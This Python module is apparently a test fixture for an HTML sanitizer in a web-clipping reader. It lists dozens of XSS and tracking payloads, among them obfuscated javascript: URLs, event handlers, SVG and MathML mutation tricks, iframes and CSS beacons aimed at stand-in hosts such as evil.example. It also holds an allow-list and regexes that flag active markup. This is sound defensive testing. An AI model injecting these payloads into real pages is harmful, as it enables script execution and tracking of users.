"""A corpus of hostile HTML and the rule every stored clip must obey.

Each :class:`Payload` is a piece of markup an attacker or a tracker puts in a
page, the place it goes (``head``, between paragraphs, or inside a paragraph)
and the ``markers``: strings that exist only in the dangerous part, so that
finding one in a stored clip means the payload survived.
"""

import html
import re
from dataclasses import dataclass
from typing import Literal
from urllib.parse import urlsplit

import lxml.html

Where = Literal["head", "body", "inline"]


@dataclass(frozen=True)
class Payload:
    name: str
    markup: str
    markers: tuple[str, ...]
    where: Where = "body"


def _p(name: str, markup: str, *markers: str, where: Where = "body") -> Payload:
    return Payload(name, markup, markers or (name,), where)


_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

PAYLOADS: list[Payload] = [
    # -- scripts and event handlers
    _p("script", "<script>alert('xss-script')</script>", "xss-script"),
    _p("script-src", '<script src="https://evil.example/xss-script-src.js"></script>', "xss-script-src"),
    _p("script-inline", "before <script>document.write('xss-inline-script')</script> after", "xss-inline-script", where="inline"),
    _p("img-onerror", "<img src=\"photo.jpg\" alt=\"A photo\" onerror=\"alert('xss-onerror')\">", "xss-onerror", "onerror"),
    _p("p-onclick", "<p onclick=\"alert('xss-onclick')\">Click this paragraph of the article text.</p>", "xss-onclick", "onclick"),
    _p("a-onmouseover", "<a href=\"https://ok.example/story\" onmouseover=\"alert('xss-mouseover')\">a link</a>", "xss-mouseover", where="inline"),
    _p("details-ontoggle", "<details open ontoggle=\"alert('xss-toggle')\"><summary>More</summary>hidden</details>", "xss-toggle", "ontoggle"),
    _p("body-onload", "<body onload=\"alert('xss-bodyonload')\">", "xss-bodyonload", where="inline"),
    _p("uppercase-handler", "<IMG SRC=\"photo.jpg\" ONERROR=\"alert('xss-upper')\">", "xss-upper", where="inline"),
    _p("handler-slash", "<img/src=\"photo.jpg\"/onerror=\"alert('xss-slash')\">", "xss-slash", where="inline"),
    # -- javascript:, vbscript:, data: URLs and their disguises
    _p("js-href", "<a href=\"javascript:alert('xss-js')\">read more</a>", "xss-js", where="inline"),
    _p("js-mixed-case", "<a href=\"JaVaScRiPt:alert('xss-case')\">read</a>", "xss-case", where="inline"),
    _p("js-decimal-entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('xss-dec')\">read</a>", "xss-dec", where="inline"),
    _p("js-hex-entities", "<a href=\"&#x6A;avascript&#x3A;alert('xss-hex')\">read</a>", "xss-hex", where="inline"),
    _p("js-padded-entities", "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert('xss-pad')\">read</a>", "xss-pad", where="inline"),
    _p("js-named-colon", "<a href=\"javascript&colon;alert('xss-colon')\">read</a>", "xss-colon", where="inline"),
    _p("js-tab", "<a href=\"jav\tascript:alert('xss-tab')\">read</a>", "xss-tab", where="inline"),
    _p("js-tab-entity", "<a href=\"jav&#x09;ascript:alert('xss-tabent')\">read</a>", "xss-tabent", where="inline"),
    _p("js-newline", "<a href=\"java\nscript:alert('xss-nl')\">read</a>", "xss-nl", where="inline"),
    _p("js-newline-entity", "<a href=\"java&#10;script:alert('xss-nlent')\">read</a>", "xss-nlent", where="inline"),
    _p("js-nul", "<a href=\"java\x00script:alert('xss-nul')\">read</a>", "xss-nul", where="inline"),
    # An HTML parser turns &#0; into U+FFFD, so a browser reads this as a harmless relative
    # path; readability resolves it so before the sanitizer sees it.  It must not stay javascript:.
    _p("js-nul-entity", "<a href=\"java&#0;script:alert('xss-nulent')\">read</a>", 'href="java', where="inline"),
    _p("js-leading-control", "<a href=\"&#x01; &#14; javascript:alert('xss-lead')\">read</a>", "xss-lead", where="inline"),
    _p("js-leading-space", "<a href=\"   javascript:alert('xss-space')\">read</a>", "xss-space", where="inline"),
    _p("js-comment-trick", "<a href=\"javascript://%0aalert('xss-jscomment')\">read</a>", "xss-jscomment", where="inline"),
    _p("js-img-src", "<img src=\"javascript:alert('xss-imgjs')\" alt=\"x\">", "xss-imgjs", where="inline"),
    _p("vbscript", "<a href='vbscript:msgbox(\"xss-vb\")'>read</a>", "xss-vb", "vbscript", where="inline"),
    _p("vbscript-upper", "<a href='VBSCRIPT:msgbox(\"xss-vbup\")'>read</a>", "xss-vbup", where="inline"),
    _p("data-href", f'<a href="data:text/html;base64,{_B64_SCRIPT}">read</a>', _B64_SCRIPT, where="inline"),
    _p("data-href-upper", "<a href=\"DATA:text/html,<script>alert('xss-dataup')</script>\">read</a>", "xss-dataup", where="inline"),
    _p("data-img", f'<img src="data:image/svg+xml;base64,{_B64_SCRIPT}" alt="chart">', _B64_SCRIPT, where="inline"),
    _p("data-img-spaced", "<img src=\" d&#x61;ta:image/gif;base64,R0lGODlhxss\" alt=\"x\">", "R0lGODlhxss", where="inline"),
    _p("unknown-scheme", "<a href=\"livescript:alert('xss-live')\">read</a>", "xss-live", where="inline"),
    _p("blob-and-file", "<a href=\"file:///etc/passwd-xss\">f</a><img src=\"blob:https://x/xss-blob\">", "passwd-xss", "xss-blob", where="inline"),
    # -- SVG and MathML
    _p("svg-script", "<svg><script>alert('xss-svgscript')</script></svg>", "xss-svgscript"),
    _p("svg-onload", "<svg onload=\"alert('xss-svgonload')\"><circle r=\"4\"/></svg>", "xss-svgonload"),
    _p("svg-xlink", "<svg><a xlink:href=\"javascript:alert('xss-xlink')\"><text x=\"0\" y=\"10\">tap</text></a></svg>", "xss-xlink"),
    _p("svg-animate", "<svg><animate attributeName=\"href\" values=\"javascript:alert('xss-animate')\"/></svg>", "xss-animate"),
    _p("svg-image-beacon", "<svg><image href=\"https://tracker.example/xss-svgimage.png\"/></svg>", "xss-svgimage"),
    _p("svg-foreignobject", "<svg><foreignObject><iframe src=\"https://evil.example/xss-foreign\"></iframe></foreignObject></svg>", "xss-foreign"),
    _p("svg-use-data", "<svg><use href=\"data:image/svg+xml,&lt;svg id='x'&gt;&lt;/svg&gt;#xss-use\"/></svg>", "xss-use"),
    _p("mathml-href", "<math href=\"javascript:alert('xss-mathhref')\"><mi>x</mi></math>", "xss-mathhref"),
    _p("mathml-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-mathmxss')>", "xss-mathmxss", "onerror"),
    _p("mathml-maction", "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert('xss-maction')\">m</maction></math>", "xss-maction"),
    _p("noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-noscript')>\"></noscript>", "xss-noscript", "onerror"),
    _p("template", "<template><script>alert('xss-template')</script><img src=x onerror=\"xss-template2\"></template>", "xss-template"),
    # -- embedded content
    _p("iframe", "<iframe src=\"https://evil.example/xss-iframe\" width=\"600\"></iframe>", "xss-iframe"),
    _p("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert('xss-srcdoc')&lt;/script&gt;\"></iframe>", "xss-srcdoc", "srcdoc"),
    _p("iframe-js", "<iframe src=\"javascript:alert('xss-iframejs')\"></iframe>", "xss-iframejs"),
    _p("object", "<object data=\"https://evil.example/xss-object.swf\" type=\"application/x-shockwave-flash\"><param name=\"movie\" value=\"xss-param\"></object>", "xss-object", "xss-param"),
    _p("object-data-url", f'<object data="data:text/html;base64,{_B64_SCRIPT}"></object>', _B64_SCRIPT),
    _p("embed", "<embed src=\"https://evil.example/xss-embed.swf\">", "xss-embed"),
    _p("applet", "<applet code=\"XssApplet.class\" codebase=\"https://evil.example/\"></applet>", "XssApplet"),
    _p("frameset", "<frameset><frame src=\"https://evil.example/xss-frame\"></frameset>", "xss-frame"),
    _p("video-audio", "<video poster=\"https://tracker.example/xss-poster.jpg\" src=\"https://evil.example/xss-video.mp4\"></video><audio src=\"https://evil.example/xss-audio.mp3\" autoplay></audio>", "xss-poster", "xss-video", "xss-audio"),
    _p("portal", "<portal src=\"https://evil.example/xss-portal\"></portal>", "xss-portal"),
    # -- navigation and document hijacks
    _p("meta-refresh-head", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/xss-refresh-head\">", "xss-refresh-head", "refresh", where="head"),
    _p("meta-refresh-body", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss-refresh-body')\">", "xss-refresh-body", "refresh"),
    _p("base-href", "<base href=\"https://evil.example/xss-base/\">", "<base", where="head"),
    _p("base-href-body", "<base href=\"javascript:alert('xss-basebody')//\">", "<base", "xss-basebody"),
    _p("form", "<form action=\"https://evil.example/xss-form\" method=\"post\"><input name=\"password\" value=\"xss-input\"><button formaction=\"javascript:alert('xss-formaction')\">Log in</button></form>", "xss-form", "xss-input", "xss-formaction", "<input"),
    _p("input-image", "<input type=\"image\" src=\"https://tracker.example/xss-inputimage.png\">", "xss-inputimage"),
    _p("isindex", "<isindex action=\"javascript:alert('xss-isindex')\" type=\"image\">", "xss-isindex"),
    _p("textarea", "<textarea>xss-textarea</textarea><select><option>xss-option</option></select>", "xss-textarea", "xss-option"),
    _p("a-ping", "<a href=\"https://ok.example/story\" ping=\"https://tracker.example/xss-ping\">story</a>", "xss-ping", where="inline"),
    _p("a-target-formaction", "<a href=\"https://ok.example/story\" target=\"_top\" download=\"xss-download\">story</a>", "xss-download", "target=", where="inline"),
    # -- CSS beacons
    _p("style-attr-url", "<span style=\"background:url(https://tracker.example/xss-cssbeacon.gif)\">styled words</span>", "xss-cssbeacon", "url(", where="inline"),
    _p("style-attr-escaped", "<span style=\"background:u\\72 l(https://tracker.example/xss-cssesc.gif)\">styled words</span>", "xss-cssesc", where="inline"),
    _p("style-attr-expression", "<span style=\"width: expression(alert('xss-expr'))\">old IE</span>", "xss-expr", "expression", where="inline"),
    _p("style-attr-behavior", "<img src=\"photo.jpg\" style=\"behavior:url(xss-behavior.htc)\">", "xss-behavior", where="inline"),
    _p("style-element", "<style>p { background: url(https://tracker.example/xss-stylebeacon.gif) }</style>", "xss-stylebeacon"),
    _p("style-import", "<style>@import 'https://tracker.example/xss-import.css';</style>", "xss-import", "@import"),
    _p("style-head", "<style>body { background-image: url('//tracker.example/xss-headstyle.gif') }</style>", "xss-headstyle", where="head"),
    _p("link-stylesheet", "<link rel=\"stylesheet\" href=\"https://tracker.example/xss-stylesheet.css\">", "xss-stylesheet"),
    _p("link-prefetch", "<link rel=\"prefetch\" href=\"https://tracker.example/xss-prefetch\">", "xss-prefetch"),
    _p("link-prefetch-head", "<link rel=\"prefetch\" href=\"https://tracker.example/xss-prefetchhead\"><link rel=\"dns-prefetch\" href=\"//xss-dns.tracker.example\"><link rel=\"preconnect\" href=\"https://xss-preconnect.example\">", "xss-prefetchhead", "xss-dns", "xss-preconnect", where="head"),
    _p("link-import", "<link rel=\"import\" href=\"https://evil.example/xss-htmlimport.html\">", "xss-htmlimport"),
    # -- tracking images
    _p("pixel-1x1", "<img src=\"https://tracker.example/p.gif?id=xss-pixel1\" width=\"1\" height=\"1\" alt=\"\">", "xss-pixel1", where="inline"),
    _p("pixel-1px-style", "<img src=\"https://tracker.example/open?id=xss-pixelstyle\" style=\"width:1px;height:1px\">", "xss-pixelstyle", where="inline"),
    _p("pixel-hidden", "<img src=\"https://tracker.example/open?id=xss-pixelhidden\" style=\"display: none\">", "xss-pixelhidden", where="inline"),
    _p("pixel-zero", "<img src=\"https://tracker.example/open?id=xss-pixelzero\" width=\"0\" height=\"0\">", "xss-pixelzero", where="inline"),
    _p("pixel-known-host", "<img src=\"https://www.facebook.com/tr?id=xss-fbpixel&amp;ev=PageView\">", "xss-fbpixel", where="inline"),
    _p("pixel-gif-name", "<img src=\"https://stats.example.org/pixel.gif?u=xss-pixelgif\">", "xss-pixelgif", where="inline"),
    _p("srcset", "<img src=\"https://cdn.example/photo.jpg\" srcset=\"javascript:alert('xss-srcset') 2x, data:image/png;base64,xss-srcset 3x\" alt=\"photo\">", "xss-srcset", "srcset"),
    _p("picture-source", "<picture><source srcset=\"javascript:alert('xss-source')\" type=\"image/webp\"><img src=\"https://cdn.example/photo.jpg\" alt=\"photo\"></picture>", "xss-source", "srcset"),
    _p("lazy-attributes", "<img src=\"https://cdn.example/photo.jpg\" data-src=\"https://tracker.example/xss-lazy.jpg\" lowsrc=\"https://tracker.example/xss-lowsrc.jpg\" longdesc=\"javascript:alert('xss-longdesc')\" usemap=\"#xss-usemap\">", "xss-lazy", "xss-lowsrc", "xss-longdesc", "xss-usemap"),
    _p("protocol-relative-img", "<img src=\"//tracker.example/xss-protorel.jpg\" alt=\"photo\">", 'src="//', where="inline"),
    _p("protocol-relative-link", "<a href=\"//evil.example/xss-protorel-link\">more</a>", 'href="//', where="inline"),
    _p("backslash-relative", "<a href=\"\\\\evil.example\\xss-backslash\">more</a><img src=\"/\\tracker.example/xss-bsimg.jpg\">", 'href="\\', 'src="/\\', where="inline"),
    _p("table-background", "<table background=\"https://tracker.example/xss-tablebg.gif\"><tr><td background=\"https://tracker.example/xss-tdbg.gif\">cell</td></tr></table>", "xss-tablebg", "xss-tdbg"),
    _p("blockquote-cite", "<blockquote cite=\"https://tracker.example/xss-cite\"><p>A quoted line.</p></blockquote>", "xss-cite"),
    _p("q-cite-js", "<q cite=\"javascript:alert('xss-qcite')\">quoted</q>", "xss-qcite", where="inline"),
    _p("html-comment-conditional", "<!--[if IE]><script>alert('xss-conditional')</script><![endif]-->", "xss-conditional"),
    _p("cdata-mxss", "<![CDATA[<img src=x onerror=alert('xss-cdata')>]]>", "onerror", where="inline"),
    _p("plaintext", "<xmp><img src=x onerror=alert('xss-xmp')></xmp>", "onerror"),
    _p("id-clobbering", "<a id=\"xss-clobber\" name=\"xss-clobbername\" class=\"xss-class\" href=\"https://ok.example/\">link</a>", "xss-clobber", "xss-class", where="inline"),
]  # fmt: skip

PARAGRAPHS = [
    "The regional council approved on Tuesday the new plan for the river valley, after a debate that "
    "lasted well into the night and ended with a narrow majority of thirty-one votes to twenty-seven.",
    "Under the plan, the old railway line between the two towns will be rebuilt over the next four years, "
    "with stations reopened in three villages that lost their service in the nineteen-sixties.",
    "Opponents argued that the money would be better spent on the roads, which local mayors describe as "
    "the worst in the province, and promised to take the decision to the administrative court.",
    "The president of the council said the first contracts would be signed before the summer, and that "
    "work on the bridge over the river could start as early as September if the weather allows it.",
    "Residents who gathered outside the council building greeted the result with applause, and several "
    "of them said they had waited more than twenty years for a train to stop in their village again.",
]
BEFORE = "Sentinel-before the payload, the reporter notes."
AFTER = "Sentinel-after the payload, the reporter adds."


def article_page(payload: Payload, title: str = "River valley railway plan approved") -> str:
    """A realistic news page with ``payload`` inside its article."""
    head_extra = payload.markup if payload.where == "head" else ""
    middle = (
        f"<p>{BEFORE} {payload.markup} {AFTER}</p>"
        if payload.where == "inline"
        else f"<p>{BEFORE}</p>\n{payload.markup}\n<p>{AFTER}</p>"
        if payload.where == "body"
        else f"<p>{BEFORE}</p><p>{AFTER}</p>"
    )
    paragraphs = [f"<p>{text}</p>" for text in PARAGRAPHS]
    return f"""<!DOCTYPE html>
<html lang="en"><head>
<meta charset="utf-8">
<title>{title} | The Valley Courier</title>
<meta property="og:title" content="{title}">
<meta property="og:site_name" content="The Valley Courier">
<meta name="author" content="Maria Rossi">
<meta property="article:published_time" content="2025-03-04T09:30:00+01:00">
{head_extra}
</head><body>
<header><nav><a href="/">Home</a> <a href="/politics">Politics</a> <a href="/sport">Sport</a></nav></header>
<main><article>
<h1>{title}</h1>
<p class="byline">By Maria Rossi, 4 March 2025</p>
{paragraphs[0]}
{paragraphs[1]}
{middle}
{paragraphs[2]}
{paragraphs[3]}
{paragraphs[4]}
</article></main>
<footer><p>The Valley Courier, 12 Main Street. All rights reserved.</p></footer>
</body></html>"""


# -- the rule for stored HTML ---------------------------------------------------

ALLOWED_ATTRIBUTES: dict[str, set[str]] = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title", "width", "height"},
    "abbr": {"title"},
    "time": {"datetime"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
    "ol": {"start", "reversed"},
}
# nh3 (ammonia) allows these on every tag: plain text, never fetched.
GENERIC_ATTRIBUTES = {"title", "lang"}
_TEXT_ATTRIBUTES = GENERIC_ATTRIBUTES | {"alt"}
READER_TAGS = {
    "h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "ul", "ol", "li", "blockquote", "q",
    "pre", "code", "em", "strong", "b", "i", "u", "s", "sub", "sup", "small", "mark", "a", "img",
    "figure", "figcaption", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "dl", "dt",
    "dd", "abbr", "cite", "time", "div",
}  # fmt: skip
_ACTIVE = re.compile(r"javascript|vbscript|livescript|data:|url\(|expression\(|@import", re.I)
_RAW_ACTIVE = re.compile(
    r"<\s*/?\s*(?:script|style|iframe|object|embed|svg|math|base|meta|link)\b", re.I
)


def inert_problems(stored: str) -> list[str]:
    """Why ``stored`` could run code or load something; empty when it is inert.

    The only remote references allowed are ``<a href>`` and ``<img src>`` to an
    absolute http(s) URL (plus mailto: links); the reader shows images as
    placeholders and opens links in the browser.
    """
    problems = []
    # Raw markup: text that merely mentions JavaScript is escaped and harmless.
    for found in {m.group(0).lower() for m in _RAW_ACTIVE.finditer(stored)}:
        problems.append(f"active markup {found!r}")
    if not stored.strip():
        return problems
    root = lxml.html.fragment_fromstring(stored, create_parent="div")
    for element in root.iter():
        if not isinstance(element.tag, str):
            problems.append(f"non-element node {element!r}")
            continue
        if element is root:
            continue
        if element.tag not in READER_TAGS:
            problems.append(f"tag <{element.tag}>")
        for name, value in element.attrib.items():
            # A URL is judged by its scheme below ("url(" may be part of its path).
            if name not in _TEXT_ATTRIBUTES | {"href", "src"} and _ACTIVE.search(value):
                problems.append(f"active value {element.tag}@{name}={value!r}")
            if name not in ALLOWED_ATTRIBUTES.get(element.tag, set()) | GENERIC_ATTRIBUTES:
                problems.append(f"attribute {element.tag}@{name}={value!r}")
            elif name in ("href", "src"):
                parts = urlsplit(value)
                allowed = {"http", "https", "mailto"} if name == "href" else {"http", "https"}
                if parts.scheme not in allowed or (parts.scheme != "mailto" and not parts.netloc):
                    problems.append(f"URL {element.tag}@{name}={value!r}")
                if value != value.strip() or any(ord(c) < 33 for c in value):
                    problems.append(f"URL with spaces or controls {element.tag}@{name}={value!r}")
    return problems


def surviving_markers(stored: str, payload: Payload) -> list[str]:
    haystack = (stored + "\n" + html.unescape(stored)).lower()
    return [marker for marker in payload.markers if marker.lower() in haystack]
